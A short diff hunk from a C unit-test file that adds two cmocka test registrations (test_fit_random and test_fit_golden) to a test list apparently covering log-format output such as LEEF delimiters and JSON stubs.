@@ -1801,6 +2287,8 @@ main(void)
 		cmocka_unit_test(test_severity_and_numbers),
 		cmocka_unit_test(test_leef_delimiter),
 		cmocka_unit_test(test_json_stub_fits),
+		cmocka_unit_test(test_fit_random),
+		cmocka_unit_test(test_fit_golden),
 		cmocka_unit_test(test_leef_keys_whole),
 		cmocka_unit_test(test_gap),
 	};
